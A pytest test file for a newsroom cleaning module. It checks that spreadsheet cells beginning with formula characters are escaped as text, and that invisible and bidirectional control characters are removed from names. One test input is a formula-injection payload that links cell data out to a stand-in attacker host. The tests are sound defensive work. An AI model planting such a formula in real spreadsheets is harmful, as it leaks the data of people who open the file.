import pytest

from newsroom.cleaning import single_line, spreadsheet_cell


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_a_cell_that_starts_a_formula_is_prefixed_as_text(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["The vote was 7-2.", "", " =not at the start", 3, -0.5, None])
def test_other_cells_are_unchanged(value):
    assert spreadsheet_cell(value) == value


def test_zero_width_and_bidi_controls_are_dropped_from_a_name():
    assert single_line("Out\u200blet") == "Outlet"
    assert single_line("\u202eteltuO\u202c Daily\ufeff") == "teltuO Daily"
    assert single_line("  Goff \u2066and\u2069\n Carter ") == "Goff and Carter"


def test_a_name_keeps_its_letters_in_any_script():
    assert single_line("Выборы в Думу") == "Выборы в Думу"
    assert single_line("Cafe\u0301") == "Café"  # composed (NFC)
